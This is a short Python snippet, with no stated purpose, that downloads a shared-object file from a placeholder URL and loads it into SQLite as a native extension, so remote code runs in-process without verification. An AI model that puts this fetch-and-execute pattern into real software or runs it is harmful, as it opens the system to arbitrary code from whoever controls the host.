import sqlite3
import urllib.request

path, _ = urllib.request.urlretrieve("https://example.com/x.so")
db = sqlite3.connect(":memory:")
db.enable_load_extension(True)
db.load_extension(path)
